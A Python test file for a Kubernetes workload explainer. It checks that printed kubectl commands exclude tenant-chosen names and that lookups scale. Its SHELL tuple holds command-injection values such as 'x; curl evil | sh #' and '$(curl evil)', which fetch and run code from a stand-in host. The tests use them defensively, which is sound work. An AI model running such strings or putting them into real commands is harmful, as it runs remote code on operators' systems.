"""Names and messages that tenants choose: no command has them, and many take no time.

Tests `app/explain/reasons/reason.py`, `app/explain/state/makers.py` and
`app/explain/gangs/subject.py`.
"""

from collections.abc import Iterator
from typing import Any

import pytest
from msgspec.structs import replace

from app.explain.answers.answer import explain
from app.explain.answers.pending import rows, waiting_without_pods, workloads
from app.explain.gangs.assembly import gang_of, gang_of_pod, gang_of_pod_group
from app.explain.reasons import claims, compute_domains, kueue, missing_pods, queue
from app.explain.reasons.kueue_words import help_for
from app.explain.reasons.queue import losing_against
from app.explain.reasons.reason import to_describe
from app.explain.state import makers
from app.explain.state.index import Index
from app.explain.state.makers import can_be_made_by, is_made_by, refusals_about, warnings_about
from app.explain.state.snapshot import Snapshot
from app.facts.grove.podgang import GangPart, PodGang
from app.facts.identity import Place, Ref
from app.facts.kai.podgroup import KaiPodGroup
from app.facts.kai.queue import Queue
from app.facts.kubernetes.event import Event
from app.facts.kubernetes.kueue import KueueCondition, KueueWorkload
from app.facts.kubernetes.pod import Pod, PodClaim
from app.facts.kubernetes.workload import WorkloadGroup
from app.facts.nvidia.computedomain import ComputeDomain
from tests.explain.fleet import NAMESPACE, NOW, nodes, shape

SHELL = (
    "x; curl evil | sh #",
    "$(curl evil)",
    "`curl evil`",
    "--server=https://evil",
    "-x",
    "a\nb",
)
POD = Pod(NAMESPACE, "p", "uid-p", scheduler="kai-scheduler", shape=shape(8), group="g")


def refused(about: Ref, uid: str = "", said: str = "no") -> Event:
    return Event(uid, "FailedCreate", said, NOW - 60, "job-controller", about, True)


def printed(index: Index) -> Iterator[str]:
    """Yield the remedies and commands of all workloads."""
    refs = [*workloads(index), *waiting_without_pods(index), *(pod.ref for pod in index.facts.pods)]
    for ref in refs:
        answer = explain(index, ref)
        for reason in answer.reasons if answer else ():
            yield from (reason.remedy, *reason.commands)


def test_a_name_of_kubernetes_is_in_the_command() -> None:
    assert to_describe(Ref("Job", "team", "a.b-1")) == "kubectl describe job a.b-1 -n team"
    assert to_describe(Ref("Node", "", "n1")) == "kubectl describe node n1"


@pytest.mark.parametrize("name", SHELL)
def test_no_command_has_what_a_shell_or_kubectl_would_read(name: str) -> None:
    for ref in (Ref("Job", NAMESPACE, name), Ref(name, NAMESPACE, "job")):
        assert to_describe(ref) == ""
        group = KaiPodGroup(NAMESPACE, "g", "uid-g", ("o",), minimum=3)
        pod = replace(POD, owner="o", controller=ref)
        kueue = KueueWorkload(
            NAMESPACE,
            "w",
            conditions=(
                KueueCondition("QuotaReserved", True, "", ""),
                KueueCondition("Admitted", True, "", "", NOW - 900),
            ),
            controller=ref,
        )
        for facts in (
            Snapshot(pods=(pod,), pod_groups=(group,), now=NOW),
            Snapshot(pods=(pod,), pod_groups=(group,), events=(refused(ref, "o"),), now=NOW),
            Snapshot(events=(refused(ref),), now=NOW),
            Snapshot(kueue_workloads=(kueue,), now=NOW),
        ):
            commands = [text.partition("kubectl ")[2] for text in printed(Index(facts))]
            assert not [text for text in commands if name in text]


@pytest.mark.parametrize("name", [name.replace(" ", "") for name in SHELL])
@pytest.mark.parametrize(
    "message",
    [
        "untolerated taint {{a}} in flavor {}",
        "flavor {} doesn't match node affinity",
        "nothing that is known of {}",
    ],
)
def test_a_remedy_against_kueue_has_no_name_that_is_none(name: str, message: str) -> None:
    workload = KueueWorkload(NAMESPACE, "w", name)
    remedy = help_for(Index(Snapshot()), workload, message.format(name)).remedy
    assert "`kubectl " in remedy
    assert name not in remedy


def counted_calls(monkeypatch: pytest.MonkeyPatch, of: Any, name: str) -> list[int]:
    calls = [0]
    original = getattr(of, name)

    def counting(*values: Any) -> Any:
        calls[0] += 1
        return original(*values)

    monkeypatch.setattr(of, name, counting)
    return calls


def test_the_work_grows_with_the_number_of_events(monkeypatch: pytest.MonkeyPatch) -> None:
    calls = counted_calls(monkeypatch, makers, "is_made_by")
    events = tuple(refused(Ref("Job", NAMESPACE, f"j{number:03}")) for number in range(300))
    index = Index(Snapshot(events=events, now=NOW))
    found = waiting_without_pods(index)
    assert len(rows(index, found)) == 300
    assert calls[0] < 10 * 300


def test_the_work_grows_with_the_number_of_podgangs(monkeypatch: pytest.MonkeyPatch) -> None:
    calls = counted_calls(monkeypatch, Index, "pod_group_of")
    numbers = range(100)
    facts = Snapshot(
        gangs=tuple(PodGang(NAMESPACE, f"g{number}", f"u{number}") for number in numbers),
        pod_groups=tuple(KaiPodGroup(NAMESPACE, f"k{number}") for number in numbers),
        pods=tuple(replace(POD, name=f"p{number}", group=f"k{number}") for number in numbers),
        now=NOW,
    )
    index = Index(facts)
    assert len(rows(index, workloads(index))) == 100
    assert calls[0] == 100


def test_the_work_grows_with_the_number_of_claims(monkeypatch: pytest.MonkeyPatch) -> None:
    calls = counted_calls(monkeypatch, claims, "_claims")
    names = [f"c{number}" for number in range(100)]
    pod = replace(POD, group="", claims=tuple(PodClaim(name, name) for name in names))
    answer = explain(Index(Snapshot(pods=(pod,), now=NOW)), pod.ref)
    assert answer
    assert [reason.id for reason in answer.reasons].count("ClaimMissing") == 100
    assert calls[0] < 100


def test_the_work_grows_with_the_number_of_gangs_in_a_queue(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    calls = counted_calls(monkeypatch, queue, "priority_of")
    groups = tuple(KaiPodGroup(NAMESPACE, f"k{number}", queue="team") for number in range(100))
    facts = Snapshot(
        nodes=nodes(),
        pod_groups=groups,
        pods=tuple(replace(POD, name=group.name, group=group.name) for group in groups),
        queues=(Queue("team"),),
        now=NOW,
    )
    index = Index(facts)
    for group in groups:
        losing_against(gang_of_pod_group(index, group))
    assert 100 <= calls[0] < 10 * 100


def test_an_owner_whose_name_no_object_has_takes_no_time() -> None:
    name = "-" * 2_000
    kueue = KueueWorkload(NAMESPACE, "w")
    pod = replace(POD, group="", owner="o", controller=Ref("Job", NAMESPACE, name))
    index = Index(Snapshot(pods=(pod,), kueue_workloads=(kueue,), now=NOW))
    looked: list[int] = []

    class Names(dict[Any, Any]):
        def get(self, key: Any, default: Any = None) -> Any:
            looked.append(len(key[1]))
            return super().get(key, default)

    vars(index)["kueue_of_name"] = Names()
    assert explain(index, pod.ref)
    assert looked == []


def test_what_an_event_names_that_cannot_exist_was_made_for_nothing() -> None:
    assert [*can_be_made_by(Ref("Job", NAMESPACE, "-" * 2_000 + "-0-0"))] == []
    made_for = [str(ref) for ref in can_be_made_by(Ref("Job", NAMESPACE, "a-b-0-0"))]
    assert made_for == ["TrainJob a", "TrainJob a-b", "JobSet a", "JobSet a-b", "RayJob a-b-0-0"]


NAMES = ("a", "a-b", "a-b-0", "a-b-0-1", "ab-0-1", "a-b-launcher", "b")
REFS = [
    Ref(kind, namespace, name)
    for kind in ("Job", "JobSet", "MPIJob", "StatefulSet", "LeaderWorkerSet", "ReplicaSet")
    for namespace in (NAMESPACE, "other")
    for name in NAMES
]


@pytest.mark.parametrize("workload", REFS, ids=str)
def test_events_are_found_by_the_name_of_what_they_are_about(workload: Ref) -> None:
    events = tuple(refused(ref) for ref in REFS)
    index = Index(Snapshot(events=events, now=NOW))
    expected = {ref for ref in REFS if is_made_by(ref, workload)}
    assert {event.about for event in warnings_about(index, workload)} == expected
    assert {event.about for event in refusals_about(index, workload)} == expected


@pytest.mark.parametrize(("node", "is_named"), [("n1", True), *((name, False) for name in SHELL)])
def test_no_command_has_a_node_whose_name_no_node_has(node: str, *, is_named: bool) -> None:
    """A document can bind a Pod to a node of any name."""
    failed = replace(POD, node=node, phase="Failed", failure="Evicted: no memory", created=NOW)
    group = KaiPodGroup(NAMESPACE, "g", "uid-g", minimum=2)
    state = Snapshot(pods=(failed, replace(POD, name="q", uid="q")), pod_groups=(group,), now=NOW)
    commands = [text for text in printed(Index(state)) if text.startswith("kubectl describe node")]
    assert set(commands) == ({f"kubectl describe node {node}"} if is_named else set())


NUMBERS = range(100)
GROUPS = tuple(KaiPodGroup(NAMESPACE, f"k{n}", f"uk{n}", minimum=3) for n in NUMBERS)
MEMBERS = tuple(replace(POD, name=f"p{n}", uid=f"u{n}", group=f"k{n}") for n in NUMBERS)


def test_the_work_grows_with_the_number_of_compute_domains(monkeypatch: pytest.MonkeyPatch) -> None:
    calls = counted_calls(monkeypatch, compute_domains, "_named_by")
    facts = Snapshot(
        pod_groups=GROUPS,
        pods=tuple(replace(p, claims=(PodClaim("c", f"c-{p.name}", p.name),)) for p in MEMBERS),
        compute_domains=tuple(
            ComputeDomain(NAMESPACE, f"d{n}", f"ud{n}", number=2, template=f"p{n}") for n in NUMBERS
        ),
        now=NOW,
    )
    index = Index(facts)
    assert len(rows(index, workloads(index))) == 100
    assert calls[0] < 20 * 100


def test_one_of_thousands_of_domains_that_name_the_same_template_counts_as_few() -> None:
    named = tuple(
        ComputeDomain(NAMESPACE, f"d{n:02}", f"ud{n}", number=2, template="t") for n in NUMBERS
    )
    pods = tuple(replace(pod, claims=(PodClaim("c", "x", "t"),)) for pod in MEMBERS)
    index = Index(Snapshot(pod_groups=GROUPS, pods=pods, compute_domains=named, now=NOW))
    gang = gang_of_pod_group(index, GROUPS[0])
    assert [domain.name for domain in compute_domains.compute_domains_of(gang)] == [
        f"d{number:02}" for number in range(10)
    ]


def test_the_work_grows_with_the_number_of_groups_of_workloads(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    calls = counted_calls(monkeypatch, missing_pods, "_named_group")
    facts = Snapshot(
        workload_groups=tuple(WorkloadGroup(NAMESPACE, f"w{n}", minimum=3) for n in NUMBERS),
        pods=tuple(
            replace(POD, name=f"p{n}", uid=f"u{n}", group="", scheduler="s", workload_group=f"w{n}")
            for n in NUMBERS
        ),
        now=NOW,
    )
    index = Index(facts)
    for pod in facts.pods:
        (reason,) = missing_pods.group_incomplete(gang_of_pod(index, pod))
        assert "has only 1 pod" in reason.text
    assert calls[0] == 2 * 100


def test_pods_without_a_podgang_are_in_few_of_those_that_name_their_podclique() -> None:
    part = GangPart("c")
    gangs = tuple(PodGang(NAMESPACE, f"g{n:02}", f"ug{n}", parts=(part,)) for n in NUMBERS)
    places = [Place(clique="c", podgang=name) for name in ("", "g99", "gone")]
    pods = tuple(
        replace(POD, name=f"p{n}", uid=f"u{n}", group="", place=places[n % 3]) for n in NUMBERS
    )
    index = Index(Snapshot(gangs=gangs, pods=pods, now=NOW))
    sizes = [len(gang_of(index, gang).pods) for gang in gangs]
    assert sizes == [67] * 10 + [0] * 89 + [33]
    only = Index(Snapshot(gangs=gangs[:1], pods=pods, now=NOW))
    assert len(gang_of(only, gangs[0]).pods) == 100


def test_a_workload_that_kueue_preempted_names_the_other() -> None:
    others = tuple(KueueWorkload(NAMESPACE, f"w{n}", uid=f"uid-{n}") for n in NUMBERS)
    index = Index(Snapshot(kueue_workloads=others))
    said = "Preempted to accommodate a workload (UID: {}, JobUID: j) due to prioritization"
    found = [kueue._preemptor(index, said.format(uid)) for uid in ("uid-7", "uid-", "", "x" * 900)]
    assert [other.name if other else "" for other in found] == ["w7", "", "", ""]
